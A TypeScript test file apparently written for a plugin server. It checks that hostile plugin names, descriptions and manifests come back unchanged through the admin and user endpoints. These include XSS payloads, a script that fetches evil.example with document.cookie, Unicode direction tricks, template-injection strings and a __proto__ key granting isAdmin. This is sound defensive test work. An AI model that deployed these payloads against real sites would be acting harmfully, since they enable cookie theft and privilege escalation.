import { describe, expect, test } from 'vitest';
import { ADMIN_PLUGINS, type Plugin, pluginNamed, startServer, USER_PLUGINS } from '../test-support.ts';
import { READING_ROOM } from './reading-room.ts';

/** Written out, so that neither the catalogue nor the way to the answer changes what is sent. */
describe('hostile text comes out as it went in', () => {
  const library = async (name: string) => pluginNamed(await startServer().as('admin'), name);
  const readingRoom = async (name: string) =>
    pluginNamed(await startServer({ catalogue: READING_ROOM }).as('admin'), name);

  test('markup', async () => {
    expect(await library('hostile-markup')).toMatchObject({
      displayName: '<img src=x onerror="alert(document.domain)">',
      description: '</script><script>fetch("https://evil.example/?c=" + document.cookie)</script>',
      disabledReason: 'Failed to initialize plugin: <img src=x onerror="alert(document.domain)">',
      manifest: { author: '<a href="javascript:alert(1)">Mallory</a>' },
    });
  });

  test('signs that turn the direction, and that are not seen', async () => {
    expect((await library('hostile-direction')).displayName).toBe('annotated-\u202Eexe.jpg');
    expect((await library('hostile-invisible')).displayName).toBe('Panel\u200Bbase\uFEFF');
    expect((await readingRoom('hostile-unclosed')).displayName).toBe('\u2068ספרים\u202E');
    expect((await readingRoom('hostile-unclosed')).description).toContain('\u001B[31mred');
  });

  test('combining marks and emoji of many parts', async () => {
    const { description, manifest } = await library('hostile-invisible');
    expect(description?.match(/\p{Mark}/gu)).toHaveLength(5 * 5 * 6);
    expect(manifest?.description).toContain('👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇪🇺');
  });

  test('10,000 characters, and a name of 100', async () => {
    const longest = `hostile-${'long'.repeat(23)}`;
    expect(longest).toHaveLength(100);
    const { description, manifest } = await library(longest);
    expect(description).toHaveLength(10_000);
    expect(manifest?.description).toBe(description);
  });

  test('addresses that are none', async () => {
    const { manifest } = await library('hostile-links');
    expect(manifest?.homepage).toMatch(/^javascript:alert\(/);
    expect(manifest?.searchUriTemplate).toMatch(/^data:text\/html;base64,/);
  });

  test('templates', async () => {
    const { displayName, manifest } = await library('hostile-templates');
    for (const template of ['{{7*7}}', '${7*7}', '<%= 7*7 %>']) expect(displayName).toContain(template);
    expect(manifest?.version).toBe('${version}');
  });

  test('keys that mean something to careless code', async () => {
    const { config, manifest } = await library('hostile-keys');
    for (const key of ['__proto__', 'constructor', 'toString', '', 'with.dots', 'with/slashes']) {
      expect(Object.hasOwn(config, key), key).toBe(true);
    }
    expect(Object.getOwnPropertyDescriptor(config, '__proto__')?.value).toEqual({ isAdmin: true });
    expect(manifest?.configSchema?.fields.map(({ key }) => key)).toContain('__proto__');
    expect(Object.hasOwn({}, 'isAdmin') || 'isAdmin' in {}).toBe(false);
  });

  test('nothing at all', async () => {
    expect(await readingRoom('hostile-empty')).toMatchObject({
      displayName: '',
      description: '',
      manifest: { name: '', version: '', contentTypes: [] },
    });
  });

  test('and all of it when the plugin is switched and tested', async () => {
    const admin = await startServer().as('admin');
    const before = await pluginNamed(admin, 'hostile-keys');
    await admin('POST', `${ADMIN_PLUGINS}/${before.id}/disable`);
    await admin('POST', `${ADMIN_PLUGINS}/${before.id}/test`);
    const after = (await admin('POST', `${ADMIN_PLUGINS}/${before.id}/enable`)).json<{ plugin: Plugin }>();
    expect(after.plugin.config).toEqual(before.config);
    expect(Object.hasOwn(after.plugin.config, '__proto__')).toBe(true);
    expect(after.plugin.manifest).toEqual(before.manifest);
  });

  test('for users, too', async () => {
    const { as } = startServer();
    const { id } = await pluginNamed(await as('admin'), 'hostile-markup');
    const user = await as('user');
    await user('POST', `${USER_PLUGINS}/${id}/enable`);
    expect((await user('GET', `${USER_PLUGINS}/${id}`)).json()).toMatchObject({
      description: '<marquee><img src=x onerror="alert(document.domain)"></marquee>',
      userConfigSchema: { fields: [{ key: '<svg onload=alert(1)>', type: '<b>' }] },
    });
  });
});
